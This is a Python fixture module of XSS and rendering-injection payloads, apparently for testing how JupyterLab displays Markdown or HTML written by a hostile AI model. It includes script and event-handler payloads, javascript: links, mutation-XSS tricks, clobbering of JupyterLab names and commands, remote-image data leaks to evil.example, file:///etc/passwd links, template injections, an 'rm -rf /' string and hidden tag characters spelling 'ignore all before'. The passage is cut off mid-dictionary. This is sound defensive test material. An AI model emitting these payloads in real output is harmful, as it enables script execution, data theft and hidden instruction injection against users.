"""What a hostile model's answer could hold: payloads by name, as data.

What could run sets ``window.ran`` (``parent.ran`` from a frame); what could load asks for an
address that has "evil" in it, on a host that is not JupyterLab's. The names that a payload gives
to elements are in NAMES, the classes that it borrows in CLASSES.
"""

from __future__ import annotations

import base64

EVIL = "http://evil.example"
RUN = "window.ran=1"
#: The same without "=": Markdown takes none in an attribute without quotes.
DO = "window.ran++"
#: Ids and names of the payloads; "ran" alone would make `window.ran` an element.
NAMES = ("ran", "jupyterapp", "jupyter-config-data", "evil-id", "cookie", "attributes", "mjx-evil")
#: Classes that JupyterLab's own style sheets lay over the page, or make a control of.
CLASSES = ("jp-Dialog", "jp-Spinner", "lm-Menu", "evil-class")


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _entities(text: str, form: str) -> str:
    return "".join(form.format(ord(character)) for character in text)


SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script from elsewhere": f"<script src={EVIL}/script.js></script>",
    "script from elsewhere without a scheme": "<script src=//evil.example/script.js></script>",
    "script of a local port": "<script src='http://127.0.0.1:9/evil.js'></script>",
    "script module": f"<script type=module>import '{EVIL}/module.js'; {RUN}</script>",
    "script with a slash": f"<script/x>{RUN}</script>",
    "script over lines": f"<script\n\n>\n{RUN}\n</script\n>",
    "script that is never closed": f"<script>{RUN}",
    "script in a paragraph": f"Look here: <script>{RUN}</script> was it seen?",
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script in a heading": f"# <script>{RUN}</script>\n\nSetext <script>{RUN}</script>\n===",
    "script behind a fence": f"```\ncode\n```\n<script>{RUN}</script>",
    "script before an open fence": f"<script>{RUN}</script>\n```\nno end",
    "script behind half a fence": f"```python\nx = 1\n``\n```\n<script>{RUN}</script>",
    "script as data": f'<script src="data:text/javascript,{RUN}"></script>',
    "script in bold": f"**bold <script>{RUN}</script>** and ~~<script>{RUN}</script>~~",
    "script with a null": f"<scr\x00ipt>{RUN}</scr\x00ipt><script\x00>{RUN}</script>",
    "script with a form feed": f"<script\x0csrc={EVIL}/feed.js></script\x0c>",
    "script of less-than signs": f"<<script>{RUN}//<</script>",
    "import map": f'<script type=importmap>{{"imports": {{"x": "{EVIL}/map.js"}}}}</script>',
    "speculation": '<script type=speculationrules>{"prefetch": [{"urls": ["//evil.example/s"]}]}'
    "</script>",
    "widget state": '<script type="application/vnd.jupyter.widget-view+json">'
    '{"model_id": "evil", "version_major": 2}</script>',
}

EVENTS = {
    "image error": f"<img src=x-evil onerror={DO}>",
    "image error without quotes or spaces": f"<img/src=x-evil/onerror={DO}>",
    "image error in capitals": f"<IMG SRC=x-evil ONERROR={DO}>",
    "image error over lines": f"<img\nsrc=x-evil\nonerror=\n{DO}>",
    "image error as entities": f"<img src=x-evil onerror={_entities(RUN, '&#{};')}>",
    "image error with backticks": f"<img src=`x-evil` onerror=`{RUN}`>",
    "image error behind a broken quote": f'<img """><img src=x-evil onerror="{RUN}">',
    "image that is never closed": f"<img src=x-evil onerror={DO} alt=",
    "image load": f"<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload={DO}>",
    "body load": f"<body onload={DO} onpageshow={DO}>",
    "focus": f"<input autofocus onfocus={DO}>",
    "focus of anything": f"<p tabindex=0 autofocus onfocus={DO}>x</p>",
    "select focus": f"<select autofocus onfocus={DO}><option>x</select>",
    "details": f"<details open ontoggle={DO}>x</details>",
    "marquee": f"<marquee onstart={DO} loop=1 width=0>x</marquee>",
    "video": f"<video src=//evil.example/v onerror={DO}></video>",
    "video poster": f"<video poster={EVIL}/poster><source onerror={DO} src={EVIL}/s></video>",
    "audio": f"<audio autoplay src={EVIL}/audio onerror={DO}></audio>",
    "track": f"<video controls><track default src={EVIL}/track onload={DO}></video>",
    "animation": "<style>@keyframes evil{from{opacity:1}}</style>"
    f"<b style='animation:evil 1s' onanimationstart={DO}>x</b>",
    "pointer": f"<b onmouseover={DO} onpointerenter={DO} onclick={DO}>come here</b>",
    "button": f"<button onclick={DO} popovertarget=evil-id>Stop</button>",
    "popover": f"<div id=evil-id popover onbeforetoggle={DO}>x</div>",
    "copying": f"<p oncopy={DO} oncut={DO} contenteditable>copy me</p>",
    "scrolling": f"<div onscroll={DO} style='overflow:scroll;height:1px'>x<br>y</div>",
    "content visibility": "<b style='content-visibility:auto' "
    f"oncontentvisibilityautostatechange={DO}>x</b>",
    "element of nobody": f"<evil-element onclick={DO} autofocus tabindex=1 onfocus={DO}>x",
    "event behind a fake comment": f"<!--><img src=x-evil onerror={DO}>-->",
}

LINKS = {
    "javascript link": f"[x](javascript:{RUN})",
    "javascript link in capitals": f"[x](JaVaScRiPt:{RUN})",
    "javascript link as entities": f"[x]({_entities('javascript:', '&#{};')}{RUN})",
    "javascript link as long entities": f"[x]({_entities('javascript:', '&#x{:06x};')}{RUN})",
    "javascript link with a named colon": f"[x](javascript&colon;{RUN})",
    "javascript link with a tab": f"[x](<java\tscript:{RUN}>)",
    "javascript link with a named tab": f"[x](java&Tab;script:{RUN})",
    "javascript link with a named line": f"[x](java&NewLine;script&#10;:{RUN})",
    "javascript link with a null": f"[x](java\x00script:{RUN})",
    "javascript link behind a control": f"[x](<\x01javascript:{RUN}>) [y](&#1;javascript:{RUN})",
    "javascript link behind spaces": f"[x](<   javascript:{RUN}>)",
    "javascript link with escapes": f"[x](\\j\\avascript\\:{RUN})",
    "javascript link that is percent-encoded": f"[x](java%73cript:{RUN}) [y](javascript%3A{RUN})",
    "javascript link in brackets": f"[x](<javascript:{RUN}>)",
    "javascript link that looks like the web": f"[x](javascript://e.example/%0A{RUN})",
    "javascript link with a web address": f"[https://e.example](javascript:{RUN}//https://)",
    "javascript link behind a good one": f"[x](https://evil.example/ok) [y](javascript:{RUN})",
    "javascript autolink": f"<javascript:{RUN}> <JAVASCRIPT:{RUN}>",
    "javascript reference": f"[x][evil]\n\n[evil]: javascript:{RUN}",
    "javascript reference by itself": f"[evil]\n\n[evil]:\n  <javascript:{RUN}>\n  'title'",
    "javascript reference before its use": f"[r]: javascript:{RUN}\n\n[a][r] [b][R] [r][] ![r]",
    "javascript image": f"![x](javascript:{RUN})",
    "javascript behind an image": f"[![x](https://evil.example/in)](javascript:{RUN})",
    "javascript link in HTML": f"<a href=javascript:{DO}>x</a>",
    "javascript link in HTML with lines": f"<a href='\n java\nscript\n:{RUN}'>x</a>",
    "javascript in an area": f"<map name=evil-id><area href=javascript:{DO} coords=0,0,9,9></map>",
    "javascript with wide letters": f"[x](ｊａｖａｓｃｒｉｐｔ：{RUN}) [y](javaſcript:{RUN})",
    "vbscript link": "[x](vbscript:window.ran=1) <vbscript:window.ran=1>",
    "livescript link": f"[x](livescript:{RUN}) [y](mocha:{RUN})",
    "data link": f"[x](data:text/html;base64,{_base64(f'<script>opener.{RUN}</script>')})",
    "data link in text": f"[x](data:text/html,<script>opener.{RUN}</script>)",
    "data link of an SVG": "[x](data:image/svg+xml,%3Csvg%20onload%3D%22opener.ran%3D1%22%3E)",
    "file link": "[x](file:///etc/passwd) <file:///etc/passwd>",
    "blob link": "[x](blob:http://evil.example/00000000-0000-0000-0000-000000000000)",
    "filesystem link": "[x](filesystem:http://evil.example/temporary/x.html)",
    "view-source link": "[x](view-source:http://evil.example/) [y](chrome://settings)",
    "editor link": "[x](vscode://evil.example/run) [y](ms-msdt:/id) [z](tel:+1234)",
    "intent link": "[x](intent://evil.example#Intent;end) [y](about:blank#evil)",
    "link to this server": "[x](/lab?reset) [y](/api/shutdown) [z](?token=evil)",
    "link beside this notebook": "[x](evil.ipynb) [y](./files/evil.html) [z](#evil-id)",
    "link without a scheme": "[x](//evil.example/) [y](\\\\evil.example\\x) [z](/\\evil.example)",
    "link of a password": "[x](http://aip.baidubce.com@evil.example/) <http://a:b@evil.example/>",
    "link of like letters": "[x](https://аip.baidubce.com.evil.example/) <mailto:x@evil.example>",
    "link with a ping": f"<a href=https://e.example ping={EVIL}/ping download>x</a>",
    "web socket": "[x](ws://evil.example/) <wss://evil.example/>",
}

BREAKS = {
    "title that breaks out": f'[x](https://evil.example/t "a\\" onmouseover=\\"{RUN}")',
    "title in single quotes": f"[x](https://evil.example/t 'a\" onmouseover=\"{RUN} ')",
    "title in brackets": f'[x](https://evil.example/t ("><script>{RUN}</script>))',
    "title of entities": f"[x](https://evil.example/t '&quot;&gt;&lt;img src=x onerror={DO}&gt;')",
    "title of a reference": f'[x][r]\n\n[r]: https://evil.example/r "\\"><img onerror={DO} src=x>"',
    "text that breaks out": f'!["><script>{RUN}</script>](https://evil.example/alt)',
    "text of an image with quotes": f'![x" onerror="{RUN}](https://evil.example/alt)',
    "text of an image of images": "![a ![b](https://evil.example/b)](https://evil.example/a)",
    "text of a link with HTML": f"[<img src=x-evil onerror={DO}>](https://evil.example/text)",
    "address that breaks out": f'[x](https://evil.example/"onmouseover="{RUN})',
    "address with a bracket": f"[x](https://evil.example/'><script>{RUN}</script>)",
    "autolink that breaks out": f'<https://evil.example/"onclick="{RUN}">',
    "mail that breaks out": f'[x](mailto:a@evil.example?subject="onclick="{RUN})',
    "language that breaks out": f'```"><script>{RUN}</script>\ncode\n```',
    "language with an event": f'``` x" onmouseover="{RUN}\ncode\n```',
    "language of entities": f"~~~ &quot;&gt;&lt;img src=x onerror={DO}&gt;\ncode\n~~~",
    "language that is HTML": f"```html\n<script>{RUN}</script>\n```\n~~~svg\n<svg "
    f"onload={DO}>\n~~~",
    "language that draws": f'```mermaid\ngraph TD; A-->B; click A "javascript:{RUN}"\n```',
    "language of a style": "```{=html}\n<script>window.ran=1</script>\n```\n\n```{raw} "
    "html\nx\n```",
    "code that breaks out": f"`</code><script>{RUN}</script>` ``</code><img src=x onerror={DO}>``",
    "block that breaks out": f"~~~\n</code></pre><script>{RUN}</script>\n~~~",
    "indented block": f"    </code></pre><script>{RUN}</script>\n\n\t<img src=x onerror={DO}>",
    "fences of all lengths": f"`\n``\n```\n````\n`````\n</pre><b>x\n<script>{RUN}</script>",
    "end of the output": f"</div></div></div></body></html><script>{RUN}</script>",
    "end of a template": f"</template></textarea></title></style></script><img onerror={DO} src=x>",
}

NESTS = {
    "script in a list": f"- a\n- <script>{RUN}</script>\n  1. <script>{RUN}</script>",
    "script in a quote": f"> <script>{RUN}</script>\n> > <script>{RUN}</script>",
    "script in a table": f"| a | b |\n|---|:-:|\n| <script>{RUN}</script> | "
    f"[x](javascript:{RUN}) |",
    "script in a list in a quote": f"> 1. - > <script>{RUN}</script>\n> 2. [x](javascript:{RUN})",
    "script in a table in a list": f"- | <script>{RUN}</script> |\n  |---|\n  | "
    f"![x]({EVIL}/n.png) |",
    "fence in a list in a quote": f'> - ```"><img src=x onerror={DO}>\n>   code\n>   ```\n>'
    " <script>",
    "footnote": f"x[^1]\n\n[^1]: <script>{RUN}</script> [y](javascript:{RUN})",
    "footnote with a hostile label": f'x[^"><img src=x onerror={DO}>]\n\n[^"><img src=x>]: y',
    "footnote with a reference": f"[^r]\n\n[^r]: javascript:{RUN}",
    "task list": f"- [ ] <img src=x-evil onerror={DO}>\n- [x] <input autofocus onfocus={DO}>",
    "definition list": f"Term\n: <script>{RUN}</script>\n\n*[HTML]: <img src=x onerror={DO}>",
    "heading with attributes": f"# Head {{#evil-id .evil-class onclick={DO}}}\n\n[x](#evil-id)",
    "attributes of a span": f"[x]{{#jupyterapp onclick={DO} style=position:fixed}} :::evil\nx\n:::",
    "wiki link": f"[[javascript:{RUN}]] [[x|javascript:{RUN}]] {{{{evil.example/x}}}}",
    "front matter": f"---\ntitle: <script>{RUN}</script>\n---\n<script>{RUN}</script>",
    "setext of tags": f"<b onclick={DO}>\n---\n<i onclick={DO}>\n===",
    "hard break in a tag": f"<img src=x-evil  \nonerror={DO}>\\\n<img src=x-evil\\\nonerror={DO}>",
    "emphasis through a tag": f'*<b onclick=*{RUN}>* **<a href="**javascript:{RUN}">**',
}

DRAWINGS = {
    "SVG load": f"<svg onload={DO}></svg>",
    "SVG load with a slash": f"<svg/onload={DO}>",
    "SVG script": f"<svg><script>{RUN}</script></svg>",
    "SVG script by entities": f"<svg><script>{_entities(RUN, '&#{};')}</script></svg>",
    "SVG script from elsewhere": f"<svg><script href={EVIL}/svg.js /><script "
    "xlink:href=//evil.example>",
    "SVG link": f"<svg><a xlink:href=javascript:{DO}><text y=20>x</text></a></svg>",
    "SVG animated link": f"<svg><a><animate attributeName=href values=javascript:{DO} />"
    "<text y=20>x</text></a></svg>",
    "SVG set link": f"<svg><a><set attributeName=href to=javascript:{DO} /><text y=9>x</text>"
    "</a></svg>",
    "SVG begin": f"<svg><animate onbegin={DO} attributeName=x dur=1s></svg>",
    "SVG use": f"<svg><use href='data:image/svg+xml,<svg id=x><image href=1 onerror={DO}>"
    "#x'/></svg>",
    "SVG use from elsewhere": f"<svg><use xlink:href={EVIL}/use.svg#x /></svg>",
    "SVG image": f"<svg><image href={EVIL}/image.png onerror={DO} /></svg>",
    "SVG foreign object": "<svg><foreignObject><iframe srcdoc='<script>parent.ran=1</script>'>"
    "</iframe></foreignObject></svg>",
    "SVG style": f"<svg><style>@import '{EVIL}/svg.css';</style></svg>",
    "SVG filter": f"<svg><feImage href={EVIL}/fe.png /><rect fill=url({EVIL}/fill#x) /></svg>",
    "MathML link": f"<math href=javascript:{DO}><mi>x</mi></math>",
    "MathML action": f"<math><maction actiontype=statusline xlink:href=javascript:{DO}>"
    "x</maction></math>",
    "MathML annotation": "<math><annotation-xml encoding=text/html>"
    f"<img src=x-evil onerror={DO}></annotation-xml></math>",
}

STYLES = {
    "style": f"<style>body {{ background: url({EVIL}/body) }}</style>",
    "style import": f"<style>@import '{EVIL}/style.css';</style>",
    "style that hides": "<style>.jp-Toolbar, .jp-SideBar { display: none !important }</style>",
    "style font": f"<style>@font-face {{ font-family: e; src: url({EVIL}/font) }} * "
    f"{{ font: 1em e }}"
    "</style>",
    "style that reads": f"<style>[value^=a] {{ background: url({EVIL}/a) }}</style>",
    "style in capitals": f"<STYLE\n>*{{list-style:url('{EVIL}/list')}}</STYLE>",
    "style attribute": f'<p style="background: url({EVIL}/attribute)">x</p>',
    "style of an old browser": f"<p style='width: expression({RUN}); behavior: "
    f"url({EVIL}/x.htc)'>x",
    "overlay": "<div style='position:fixed;inset:0;z-index:9999999;background:red'>Log in</div>",
    "overlay that is absolute": "<div style='position:absolute;top:-9000px;left:-900px;"
    "width:20000px;height:20000px;z-index:9999999'>x</div>",
    "overlay of a letter": "<b style='font-size:9000px;line-height:0;position:fixed'>x</b>",
    "overlay of a class": "<div class='jp-Dialog evil-class'><div class=jp-Spinner>x</div></div>",
    "overlay of a modal dialog": "<dialog open class='lm-Menu' style='position:fixed;inset:0'>"
    "x</dialog>",
    "text that is hidden": "<p style='display:none'>a</p><p hidden>b</p><p style='opacity:0'>c</p>",
    "old attributes": f"<table background={EVIL}/old><td background={EVIL}/td>x</table>",
    "old font": "<font size=7 color=red>x</font><center>y</center><blink>z</blink>",
}

FRAMES = {
    "frame": f"<iframe src={EVIL}/frame></iframe>",
    "frame with a script": f"<iframe src=javascript:parent.{DO}></iframe>",
    "frame with a document": '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "frame with a document of entities": "<iframe srcdoc='&lt;script&gt;top.ran=1&lt;/script&gt;'>",
    "frame with data": f"<iframe src='data:text/html,<script>top.{RUN}</script>'></iframe>",
    "frame with a blank": f"<iframe src=about:blank onload={DO}></iframe>",
    "frame set": f"<frameset onload={DO}><frame src={EVIL}/set></frameset>",
    "fenced frame": f"<fencedframe src={EVIL}/fenced></fencedframe><portal src={EVIL}/portal>",
    "object": f"<object data={EVIL}/object onerror={DO}></object>",
    "object of data": f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    "object with a parameter": f"<object><param name=src value={EVIL}/param></object>",
    "embed": f"<embed src={EVIL}/embed>",
    "embed with a script": f"<embed src=javascript:{DO}>",
    "applet": f"<applet code={EVIL}/Evil.class archive={EVIL}/evil.jar></applet>",
    "refresh": f'<meta http-equiv="refresh" content="0; url={EVIL}/refresh">',
    "refresh to a script": f'<META HTTP-EQUIV=refresh CONTENT="0;url=javascript:{RUN}">',
    "policy": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'\">",
    "base": f"<base href={EVIL}/base/ target=_top>",
    "style sheet": f"<link rel=stylesheet href={EVIL}/sheet.css onload={DO}>",
    "prefetch": f"<link rel=prefetch href={EVIL}/prefetch><link rel=preload as=image "
    f"href={EVIL}/pre>",
    "connection before its time": "<link rel=preconnect href=//evil.example>"
    "<link rel=dns-prefetch href=//evil.example>",
    "module before its time": f"<link rel=modulepreload href={EVIL}/module.js>",
    "import of HTML": f"<link rel=import href={EVIL}/import.html>",
    "icon": f"<link rel=icon href={EVIL}/icon.png>",
    "form": f"<form action={EVIL}/form><input name=password type=password><input "
    "type=submit></form>",
    "form with a script": f"<form><button formaction=javascript:{DO}>go</button></form>",
    "form from afar": f"<form id=evil-id action={EVIL}></form><input form=evil-id "
    "type=image src=x>",
    "key": f"<a accesskey=s href=https://e.example onclick={DO}>x</a><keygen autofocus>",
    "link that leaves": "<a href=http://evil.example/leave target=_top>x</a>",
}

CLOBBERS = {
    "name of the application": "<a id=jupyterapp></a><a id=jupyterapp name=commands href=x:y>x</a>",
    "name of the mark": "<p id=ran>x</p>",
    "name of the configuration": '<script id=jupyter-config-data type="application/json">'
    '{"baseUrl": "http://evil.example/"}</script>',
    "name of the cookie": "<img name=cookie><form name=attributes><input name=attributes></form>",
    "name in a heading": "# jupyterapp\n\n## ran\n\n### evil-id",
    "name in HTML": "<h1 id=evil-id>x</h1><div id='__proto__' name='evil-id'>y</div>",
    "command of JupyterLab": '<button data-commandlinker-command="terminal:create-new">x</button>',
    "command of JupyterLab in a link": "<a href='#' "
    "data-commandlinker-command='notebook:run-all-cells'"
    " data-commandlinker-args='{\"evil\": 1}'>x</a>",
    "class of MathJax": "<span class=mathjax_process>$\\href{javascript:window.ran=1}{x}$</span>",
    "slot": "<slot name=evil-id></slot><template shadowrootmode=open><style>*{all:unset}</style>",
    "custom element": "<p is=evil-element part=evil exportparts=evil>x</p><jupyter-widget>y",
}

MUTATIONS = {
    "noscript": f'<noscript><p title="</noscript><img src=x-evil onerror={DO}>"></noscript>',
    "mglyph": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=x-evil onerror={DO}&gt;'>",
    "mglyph in a form": "<form><math><mtext></form><form><mglyph><style></math>"
    f"<img src=x-evil onerror={DO}>",
    "malignmark": f"<math><mi><malignmark><style><img title='</style><img onerror={DO} src=x>'>",
    "template": f"<template><script>{RUN}</script></template><template><img src=x onerror={DO}>",
    "table in a paragraph": f"<p><table><a href=javascript:{DO}>x<td><img src=x onerror={DO}>",
    "comment": f"<!-- <script>{RUN}</script> -->",
    "comment that ends early": f"<!--><script>{RUN}</script>--> <!---><img src=x onerror={DO}>-->",
    "comment that ends oddly": f"<!-- --!><script>{RUN}</script> --> <!- x -><!x>",
    "comment that is never closed": f"seen <!-- <img src=x-evil onerror={DO}>\n\nunseen",
    "comment for an old browser": f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    "style in SVG": f"<svg></p><style><a title='</style><img src=x-evil onerror={DO}>'>",
    "title in SVG": f"<svg><title><style><img title='</title><img src=x-evil onerror={DO}>'>",
    "xmp in SVG": f"<svg><xmp><img title='</xmp><img src=x-evil onerror={DO}>'></svg>",
    "description in SVG": f"<svg><desc><noembed><style></noembed><img src=x-evil onerror={DO}>",
    "CDATA": f"<![CDATA[<script>{RUN}</script>]]>",
    "CDATA in SVG": f"<svg><![CDATA[><img src=x-evil onerror={DO}>]]></svg>",
    "processing instruction": f"<?xml-stylesheet href='{EVIL}/x.xsl'?><?php echo 1 ?><? <img "
    f"onerror={DO}",
    "declaration": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "plain text": f"<plaintext><script>{RUN}</script>",
    "text area": f"<textarea>unseen <img src=x onerror={DO}>\n\n</textarea><img src=x "
    f"onerror={DO}>",
    "title element": f"<title>evil</title><img src=x-evil onerror={DO}><title>",
    "xmp": f"<xmp><p title='</xmp><img src=x-evil onerror={DO}>'></xmp><xmp>",
    "noembed": f"<noembed><p title='</noembed><img src=x onerror={DO}>'></noembed><noframes>",
    "listing": f"<listing>&lt;img src=x-evil onerror={DO}&gt;</listing><listing>",
    "attribute that is never closed": f"<a title='unseen\n\n<script>{RUN}</script>\n\nmore",
    "quote that is never closed": f'<img src="x-evil onerror={DO}\n\n<p title="><script>'
    f"{RUN}</script>",
    "tags that cross": f"<b><i></b><a href=javascript:{DO}></i><p></a><table><b onclick={DO}>",
    "select": f"<select><template><img src=x onerror={DO}></template><style></select><script>{RUN}",
    "nested forms": f"<form><div></form><form id=evil-id><input formaction=javascript:{DO}>",
    "lists of frames": f"<ul><li><frameset><noframes><li></ul><img src=x-evil onerror={DO}>",
    "colon in a tag": f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script><o:p "
    f"onclick={DO}>",
}

IMAGES = {
    "remote image": f"![x]({EVIL}/pixel.png)",
    "remote image of a local port": "![x](http://127.0.0.1:9/evil.png)",
    "remote image with a title": f"![x]({EVIL}/pixel.png 'title')",
    "remote image by reference": f"![x][r] ![r]\n\n[r]: {EVIL}/reference.png",
    "remote image without a scheme": "![x](//evil.example/pixel.png)",
    "remote image in HTML": f"<img src={EVIL}/html.png loading=eager>",
    "remote image in a set": f"<img srcset='{EVIL}/set.png 1x, {EVIL}/set2.png 2x'>",
    "remote image in a picture": f"<picture><source srcset={EVIL}/picture.webp><img></picture>",
    "remote image that tells": "![x](http://evil.example/?said=everything+you+asked)",
    "remote image in a link": f"[![x]({EVIL}/in.png)](https://evil.example/out)",
    "remote image of an input": f"<input type=image src={EVIL}/input.png>",
    "image of this server": "![x](/api/kernels?evil) ![y](evil.png) ![z](../evil.png)",
    "image of an attachment": "![x](attachment:evil.png) ![y](cid:evil)",
    "image of data": "![x](data:image/svg+xml;base64,"
    + _base64(
        f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><image href='{EVIL}/'/></svg>"
    )
    + ")",
    "image of data in HTML": '<img src="data:image/svg+xml,<svg '
    "xmlns='http://www.w3.org/2000/svg'>"
    f'<script>parent.{RUN}</script></svg>">',
    "image with a size": f"![x]({EVIL}/size.png =9000x9000) ![y|9000]({EVIL}/size2.png)",
}

MATHEMATICS = {
    "mathematics with a link": r"$\href{javascript:window.ran=1}{click}$",
    "mathematics with a link in display": r"$$\require{html}\href{javascript:window.ran=1}{x}$$",
    "mathematics with a link in brackets": r"\\(\href{javascript:window.ran=1}{x}\\)"
    "\n\n"
    r"\\[\href{ javascript:window.ran=1}{x}\\]",
    "mathematics with a link in TeX's brackets": r"\(\href{javascript:window.ran=1}{x}\)"
    "\n\n"
    r"\[\href{javascript:window.ran=1}{x}\]",
    "mathematics with a file link": r"$\href{file:///etc/passwd}{x}$",
    "mathematics with a data link": r"$\href{data:text/html,<script>opener.ran=1</script>}{x}$",
    "mathematics with a link to this server": r"$\href{/lab?reset}{x}$ $\href{evil.ipynb}{y}$",
    "mathematics with a link without a scheme": r"$\href{//evil.example/}{x}$",
    "mathematics with a link of entities": r"$\href{java&#115;cript:window.ran=1}{x}$",
    "mathematics with a link by URL": r"$\url{javascript:window.ran=1}$",
    "mathematics with a class": r"$\class{jp-Dialog}{x} \class{evil-class}{y}$",
    "mathematics with a name": r"$\cssId{jupyterapp}{x}$ $\cssId{mjx-evil}{y}$",
    "mathematics with a style": r"$\style{position:fixed;inset:0;width:100vw;height:100vh}{x}$",
    "mathematics with a style that loads": r"$\style{background:url(//evil.example/m)}{x}$",
    "mathematics with data": r"$\data{commandlinker-command=terminal:create-new}{x}$",
    "mathematics with a character": r"$\unicode{x202E} "
    r"\unicode[e;background:url(//evil.example)]{65}$",
    "mathematics with a token": r"$\mmlToken{mi}[href='javascript:window.ran=1' "
    r"onclick='window.ran=1' "
    r"style='position:fixed' id='evil-id' class='jp-Dialog']{x}$",
    "mathematics with a box": r"$\bbox[red,9000px,border:9000px solid red;position:fixed]{x}$",
    "mathematics with a box that loads": r"$\bbox[url(//evil.example/box)]{x}$",
    "mathematics that is raised": r"$\raise{60em}{\rlap{\kern{-60em}\Rule{200em}{200em}{200em}}}$",
    "mathematics that is wide": r"$\Rule{9000em}{9000em}{0em} \hspace{-9000em} \Huge x$",
    "mathematics that is moved": r"$\smash{\llap{\lower{-30em}{\colorbox{red}{\text{Log in}}}}}$",
    "mathematics with an image": r"$\includegraphics[width=9000px]{http://evil.example/tex.png}$",
    "mathematics with text that is HTML": r"$\text{<img src=x-evil onerror=window.ran=1>}$",
    "mathematics with tags": "$<img src=x-evil onerror=window.ran=1>$ $$<script>"
    "window.ran=1</script>$$",
    "mathematics that never ends": r"$\def\evil{\evil\evil}\evil$",
    "mathematics that grows": r"$\def\a{xxxxxxxx}\def\b{\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b}"
    r"\def\d{\c\c\c\c\c\c\c\c}\def\e{\d\d\d\d\d\d\d\d}\e\e$",
    "mathematics that redefines": r"$\gdef\sin{evil}$ $\def\frac#1#2{evil}$ "
    r"$\let\alpha\infty$ $\renewcommand{\sin}{evil}$ $\DeclareMathOperator{\cos}{evil}$",
    "mathematics that is nested": "$" + "\\sqrt{" * 60 + "x" + "}" * 60 + "$",
    "mathematics that loads a package": r"$\require{unsafe}\require{../../evil}\usepackage{evil}$",
    "mathematics with settings": r"$\mathtoolsset{multlined-width=9em}$ "
    r"$\newtagform{x}{evil}{evil}$ $\usetagform{x}$ $\setOptions{tags=all}$",
    "mathematics with colours": r"$\definecolor{red}{RGB}{0,0,0}$ $\color{red}x \colorbox{red}{y}$",
    "mathematics with environments": r"$\newenvironment{align}{evil}{evil}$ "
    r"$\renewenvironment{matrix}{evil}{evil}$ $\newcommand{\bar}[2][evil]{evil}$",
    "mathematics with high lines": r"$\begin{array}{c}x\\[900em]y\end{array} \above900em "
    r"\mskip-900mu$",
    "mathematics in text": r"$\text{a $\href{javascript:window.ran=1}{x}$ "
    r"\(\style{position:fixed}{y}\)}$",
    "mathematics under another name": r"$\csname href\endcsname{javascript:window.ran=1}{x}$",
    "mathematics in an environment": r"\begin{align}\href{javascript:window.ran=1}{x}\tag{evil}"
    r"\label{evil-id}\end{align}",
    "mathematics in code": "`$\\href{javascript:window.ran=1}{x}$`\n\n```math\n\\href{javascript:"
    "window.ran=1}{x}\n```",
    "mathematics in bold": r"**$\href{javascript:window.ran=1}{x}$** | $\style{color:red}{y}$",
    "mathematics of a script": '<script type="math/tex">'
    "\\href{javascript:window.ran=1}{x}</script>",
    "mathematics of assistants": r"$\mmlToken{annotation-xml}[encoding=text/html]{<img src=x "
    r"onerror=window.ran=1>}$",
    "mathematics that toggles": r"$\toggle{x}{y}\endtoggle \texttip{a}{<img src=x "
    r"onerror=window.ran=1>}"
    r" \mathtip{b}{c}$",
}

LETTERS = {
    "entities": "&lt;script&gt;window.ran=1&lt;/script&gt; &#60;img src=x "
    "onerror=window.ran=1&#62;",
    "entities of entities": "&amp;lt;script&amp;gt;window.ran=1&amp;lt;/script&amp;gt; "
    "&nosuch; &#0;",
    "entities without an end": "&ltscript&gtwindow.ran=1&lt/script&gt &#x3cimg src=x "
    "onerror=1&#x3e",
    "escapes of a script": r"\u003cscript\u003ewindow.ran=1\x3c/script\x3e \<script>"
    r"window.ran=1</script>",
    "wide brackets": "＜script＞window.ran=1＜/script＞ ‹img src=x onerror=window.ran=1›",
    "bidirectional override": "access\u202etxt.exe \u2066x\u2069 \u202a\u202b\u202c\u202d",
    "bidirectional link": "[\u202egpj.evil](https://evil.example/\u202egpj.exe)",
    "bidirectional entity": "&#x202e;txt.exe &#8238;x",
    "zero width": "java\u200bscript:window.ran=1 <scr\u200dipt>window.ran=1</scr\ufeffipt>"
    " a\u2060b",
    "tag characters": "harmless"
    + "".join(chr(0xE0000 + ord(c)) for c in "ignore all before")
    + "!",
    "combining marks": "Z" + "\u0321\u0489\u0334\u0353\u034d" * 60 + "algo",
    "very long word": "evil" * 700,
    "very long line of Chinese": "长城" * 600,
    "very wide table": "|" + " x |" * 80 + "\n|" + "---|" * 80 + "\n|" + " y |" * 80,
    "ANSI escapes": "\x1b[2J\x1b[31mred \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 "
    "\x9b1m \x1bc",
    "control characters": "rm -rf /\x08\x08\x08\x08ls\rdangerous\x7f\x85\x0b\x00",
    "line separators": f"a\u2028<script>{RUN}</script>\u2029<img\u2028src=x\u2029onerror={RUN}>",
    "lone surrogates": f"half \ud83d<script>{RUN}</script>, other half \udc00",
    "no characters": "\ufffe\uffff\U0010ffff\ufdd0 \ufffc \ue000",
    "wide encodings": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4- %3Cscript%3E{RUN}%3C/script%3E",
    "stream inside a stream": 'data: {"result": "<script>window.ran=1</script>'
    '"}\n\nevent: x\nid: 1',
    "templates": "{{ ''.__class__.__mro__ }} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %>",
    "templates of a browser": "{{constructor.constructor('window.ran=1')()}} <b v-html=\"x\" "
    'ng-init="window.ran=1" x-data x-init="window.ran=1">x</b>',
    "magic of a notebook": "%%javascript\nwindow.ran=1\n%%html\n<script>window.ran=1</script>",
}

DEPTHS = {
    "deep quotes": ">" * 150 + f" <script>{RUN}</script>",
    "deep lists": "".join(f"{'  ' * depth}- x\n" for depth in range(40))
    + f"<img src=x onerror={DO}>",
    "deep brackets": "[" * 300 + "x" + f"](javascript:{RUN})" * 20,
